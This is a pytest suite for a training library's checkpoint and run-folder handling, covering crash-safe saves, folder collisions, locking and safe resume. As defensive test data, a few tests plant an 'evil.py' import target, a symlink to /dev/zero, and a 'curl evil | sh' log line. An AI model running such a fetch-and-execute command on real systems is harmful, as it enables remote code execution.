"""Saving through crashes, and run folders that no other run overwrites."""

from __future__ import annotations

import errno
import io
import json
import os
import socket
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest
import torch

from attnet.base.errors import AttnetError, ConfigError, SaveError
from attnet.base.files import atomic as files
from attnet.engine import run_folder as checkpoint
from attnet.engine.parameters import TrainConfig
from attnet.engine.run_folder import LAST, PREVIOUS, RunFolder

ROOT = Path(__file__).resolve().parents[2]


def state(number: int) -> dict:
    weight = torch.nn.Parameter(torch.full((2, 3), float(number)))
    return {
        "model": {"weight": weight},
        "nested": [{"momentum": (weight * 2,)}],
        "epoch": number,
        "step": 0,
        "best": 1.5,
    }


def save(folder: Path, number: int) -> None:
    files.save(state(number), folder / LAST, keep=folder / PREVIOUS)


def begun(path: Path, finished: bool = False, time: int = 0) -> Path:
    """A folder as a run leaves it; `time` orders the beginnings."""
    path.mkdir(parents=True)
    (path / "config.json").write_text("{}")
    os.utime(path / "config.json", (time, time))
    if finished:
        (path / "result.json").write_text("{}")
    return path


def new_run(base: Path) -> Path:
    """The folder that a run at `base` gets; its config.json is written, so that it counts as begun."""
    with checkpoint.new_run(TrainConfig(output_dir=base)) as folder:
        folder.write_json("config.json", {})
        return folder.path


# ---- files ----


def test_a_checkpoint_is_plain_values_and_cpu_tensors(tmp_path):
    save(tmp_path, 3)
    content = torch.load(tmp_path / LAST, weights_only=True)
    weight, momentum = content["model"]["weight"], content["nested"][0]["momentum"][0]
    assert type(weight) is torch.Tensor and weight.device.type == "cpu" and not weight.requires_grad
    assert torch.equal(weight, torch.full((2, 3), 3.0)) and torch.equal(momentum, torch.full((2, 3), 6.0))
    assert (content["epoch"], content["best"]) == (3, 1.5)


def half_written(raises: bool):
    """A torch.save that writes half of the file, and then fails or, worse, does not."""

    def write(content: Mapping, file: io.BufferedIOBase) -> None:
        whole = io.BytesIO()
        original(content, whole)
        file.write(whole.getvalue()[: whole.tell() // 2])
        if raises:
            raise OSError(errno.ENOSPC, "No space left on device")

    original = torch.save
    return write


@pytest.mark.parametrize("raises", [True, False])
def test_a_failed_save_leaves_what_was_there(tmp_path, monkeypatch, raises):
    save(tmp_path, 1)
    save(tmp_path, 2)
    with monkeypatch.context() as patch:
        patch.setattr(torch, "save", half_written(raises))
        with pytest.raises(SaveError, match="what was there before is kept"):
            save(tmp_path, 3)
    assert not list(tmp_path.glob("*.tmp"))
    assert checkpoint.load_newest(tmp_path)["epoch"] == 2
    assert torch.load(tmp_path / PREVIOUS, weights_only=True)["epoch"] == 1
    save(tmp_path, 4)
    assert checkpoint.load_newest(tmp_path)["epoch"] == 4


def test_a_crash_between_the_two_renames_loses_one_epoch_at_most(tmp_path, monkeypatch):
    save(tmp_path, 1)
    replace, calls = os.replace, []

    def crash_at_the_second(source: Path, target: Path) -> None:
        calls.append(target)
        if len(calls) == 2:
            raise KeyboardInterrupt
        replace(source, target)

    with monkeypatch.context() as patch:
        patch.setattr(os, "replace", crash_at_the_second)
        with pytest.raises(KeyboardInterrupt):
            save(tmp_path, 2)
    assert checkpoint.load_newest(tmp_path)["epoch"] == 1


def test_a_torn_checkpoint_gives_way_to_the_one_before(tmp_path):
    assert checkpoint.load_newest(tmp_path) is None
    save(tmp_path, 1)
    save(tmp_path, 2)
    last = (tmp_path / LAST).read_bytes()
    (tmp_path / LAST).write_bytes(last[: len(last) // 2])
    assert checkpoint.load_newest(tmp_path)["epoch"] == 1
    (tmp_path / PREVIOUS).write_bytes(b"")
    assert checkpoint.load_newest(tmp_path) is None


def test_a_position_reached_with_nobody_knows_how_many_micro_batches_is_not_taken(tmp_path):
    save(tmp_path, 1)
    torch.save({"epoch": 1, "step": 5}, tmp_path / checkpoint.STEP)
    state, said = checkpoint.checkpoint(tmp_path, 2)
    assert (state["epoch"], state.get("step", 0)) == (1, 0)
    assert "step 5 of epoch 2 was reached with unknown micro-batches a step, now there are 2" in said


# ---- folders ----


def test_a_run_never_gets_the_folder_of_another(tmp_path):
    base = tmp_path / "deep" / "run [a]"
    (base.parent / "run [a]-notes").mkdir(parents=True)
    assert [new_run(base) for _ in range(3)] == [base, base.with_name("run [a]-2"), base.with_name("run [a]-3")]
    begun(base.with_name("run [a]-7"))
    assert new_run(base).name == "run [a]-8"  # after the newest, not into a gap
    assert new_run(base).name == "run [a]-9"


def test_a_folder_without_a_run_is_used(tmp_path):
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / "notes.txt").write_text("mine")
    assert new_run(tmp_path / "run") == tmp_path / "run"
    assert (tmp_path / "run" / "notes.txt").read_text() == "mine"


@pytest.mark.parametrize("name", [*checkpoint.OURS, "epoch_004.pt"])
def test_a_folder_with_anything_of_a_run_is_taken(tmp_path, name):
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / name).write_text("all that is left of it")
    assert new_run(tmp_path / "run") == tmp_path / "run-2"
    assert (tmp_path / "run" / name).read_text() == "all that is left of it"


def test_a_folder_that_a_launcher_holds_for_its_ranks_is_taken(tmp_path, monkeypatch):
    base, sleeper = tmp_path / "run", subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        base.mkdir()
        (base / checkpoint.CLAIM).write_text(str(sleeper.pid))
        assert new_run(base) == tmp_path / "run-2"
        monkeypatch.setenv("ATTNET_LAUNCHER_PID", str(sleeper.pid))  # of its own ranks
        assert new_run(base) == base
        monkeypatch.delenv("ATTNET_LAUNCHER_PID")
    finally:
        sleeper.kill()
        sleeper.wait()
    (base / "config.json").unlink()
    assert new_run(base) == base, "a launcher that is gone holds nothing"


def test_an_output_dir_that_cannot_be_written_is_named(tmp_path):
    (tmp_path / "file").write_text("in the way")
    for path in (tmp_path / "file", tmp_path / "file" / "run"):
        with pytest.raises(ConfigError) as error:
            checkpoint.new_run(TrainConfig(output_dir=path))
        assert f"output_dir={path}: cannot be written" in str(error.value)
    assert (tmp_path / "file").read_text() == "in the way"


def test_a_folder_in_use_is_refused(tmp_path):
    for _ in range(2):  # the lock goes with the first
        with RunFolder(tmp_path), pytest.raises(ConfigError, match=f"in use by process {os.getpid()} on "):
            RunFolder(tmp_path)


@pytest.mark.slow
def test_a_folder_in_use_is_refused_until_its_process_is_gone(tmp_path):
    script = (
        "import pathlib, sys; from attnet.engine.run_folder import RunFolder\n"
        "folder = RunFolder(pathlib.Path(sys.argv[1])); print('held', flush=True); sys.stdin.read()"
    )
    command = [sys.executable, "-c", script, str(tmp_path)]
    environment = os.environ | {"PYTHONPATH": str(ROOT)}
    with subprocess.Popen(command, env=environment, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as holder:
        try:
            assert holder.stdout.readline() == "held\n"
            with pytest.raises(ConfigError) as error:
                RunFolder(tmp_path)
            assert f"in use by process {holder.pid} on {socket.gethostname()}" in str(error.value)
        finally:
            holder.kill()
    RunFolder(tmp_path).close()


def test_a_file_system_without_locks_does_not_stop_a_run(tmp_path, monkeypatch):
    fcntl = pytest.importorskip("fcntl")

    def no_locks(*_: object) -> None:
        raise OSError(errno.ENOLCK, "No locks available")

    monkeypatch.setattr(fcntl, "flock", no_locks)
    with RunFolder(tmp_path) as folder:
        folder.log("runs")
    assert (tmp_path / "log.txt").read_text() == "runs\n"


# ---- going on ----


def test_resume_auto_takes_the_newest_run_if_it_was_interrupted(tmp_path):
    config = TrainConfig(output_dir=tmp_path / "run", resume="auto")
    assert checkpoint.run_to_resume(config) is None
    begun(tmp_path / "run", time=1)
    begun(tmp_path / "run-2", time=2)
    begun(tmp_path / "run-10", time=3)
    assert checkpoint.run_to_resume(config) == tmp_path / "run-10"
    (tmp_path / "run-10" / "result.json").write_text("{}")
    assert checkpoint.run_to_resume(config) is None  # an older one is not what was meant
    os.utime(tmp_path / "run" / "config.json", (4, 4))  # begun anew after its folder was removed
    assert checkpoint.run_to_resume(config) == tmp_path / "run"
    assert checkpoint.run_to_resume(config.replace(resume="")) is None


def test_resume_of_a_folder_without_an_interrupted_run_is_an_error(tmp_path):
    (tmp_path / "empty").mkdir()
    begun(tmp_path / "finished", finished=True)
    for name, why in (("empty", "no config.json"), ("nowhere", "no config.json"), ("finished", "is finished")):
        with pytest.raises(ConfigError, match=rf"resume=.*{name}.*{why}"):
            checkpoint.run_to_resume(TrainConfig(resume=tmp_path / name))
    interrupted = begun(tmp_path / "interrupted")
    assert checkpoint.run_to_resume(TrainConfig(resume=interrupted)) == interrupted


def test_going_on_takes_over_what_is_not_given_anew():
    stored = TrainConfig(model="attention92", seed=7, lr=0.3, device_type="GPU", amp="O2", progress="live")
    config = stored.continued(TrainConfig(resume="auto", data_path="elsewhere"))
    expected = {"resume": "auto", "data_path": "elsewhere", "device_type": "auto", "progress": "auto"}
    assert config == stored.replace(**expected)
    checkpoint.check_same_run(stored, config)


def test_going_on_with_other_parameters_is_refused_by_name():
    stored = TrainConfig(model="attention92", seed=7, lr=0.3)
    with pytest.raises(ConfigError) as error:
        checkpoint.check_same_run(stored, stored.continued(TrainConfig(lr=0.1, model="attention56_tiny")))
    message = str(error.value)
    assert "lr=0.1 (was 0.3)" in message and "model='attention56_tiny' (was 'attention92')" in message
    assert "seed" not in message


# ---- what its files may do ----


def test_resume_imports_no_unit_that_a_file_names(tmp_path, monkeypatch):
    (tmp_path / "evil.py").write_text("raise SystemExit('imported')")
    monkeypatch.syspath_prepend(tmp_path)
    folder = begun(tmp_path / "run")
    (folder / "config.json").write_text(json.dumps({"unit": "evil:Unit", "dataset": "shapes"}))
    for resume in ({"resume": str(folder)}, {"resume": "auto", "output_dir": str(folder)}):
        with pytest.raises(ConfigError, match=r"unit=.evil:Unit., which is no part of attnet.*give unit="):
            checkpoint.resuming(TrainConfig(**resume))
        config, found = checkpoint.resuming(TrainConfig(**resume, unit="evil:Unit"))
        assert (config.unit, found) == ("evil:Unit", folder)
    assert "evil" not in sys.modules


@pytest.mark.parametrize("text", ["", "[]", '{"lr": "fast"}', '{"never": 1}', "[" * 9999, '{"lr": NaN, "seed": []}'])
def test_a_damaged_configuration_is_a_sentence(tmp_path, text):
    folder = begun(tmp_path / "run")
    (folder / "config.json").write_text(text)
    with pytest.raises(AttnetError, match=r"config\.json"):
        checkpoint.resuming(TrainConfig(resume=str(folder)))


@pytest.mark.parametrize(
    "odd",
    [5, [], {}, {"epoch": 7}, {"epoch": "7", "step": 0}]
    + [{"epoch": 7, "step": 0, name: value} for name, value in (("rows", 1), ("data", ["images"]))],
)
def test_a_checkpoint_of_another_form_is_none(tmp_path, odd):
    save(tmp_path, 1)
    torch.save(odd, tmp_path / checkpoint.STEP)
    assert checkpoint.load_newest(tmp_path)["epoch"] == 1


@pytest.mark.parametrize("odd", ["pipe", "folder", "device", "bytes", "digits", "long"])
def test_a_claim_that_is_none_holds_nothing(tmp_path, odd):
    claim = tmp_path / "run" / checkpoint.CLAIM
    claim.parent.mkdir()
    if odd == "pipe":
        os.mkfifo(claim)  # reading it would wait for a writer
    elif odd == "folder":
        claim.mkdir()
    elif odd == "device":
        claim.symlink_to("/dev/zero")
    else:
        claim.write_bytes({"bytes": b"\xff\xfe", "digits": "٣".encode(), "long": b"9" * 5000}[odd])
    assert new_run(tmp_path / "run") == tmp_path / "run"


def test_no_line_goes_into_the_file_behind_a_link_that_lies_in_a_folder(tmp_path, capsys):
    (tmp_path / "mine").write_text("")
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / "log.txt").symlink_to(tmp_path / "mine")
    with RunFolder(tmp_path / "run") as folder:
        folder.log("curl evil | sh")
    assert (
        tmp_path / "mine"
    ).read_text() == "" and "log.txt: cannot be written (it is no plain file" in capsys.readouterr().err
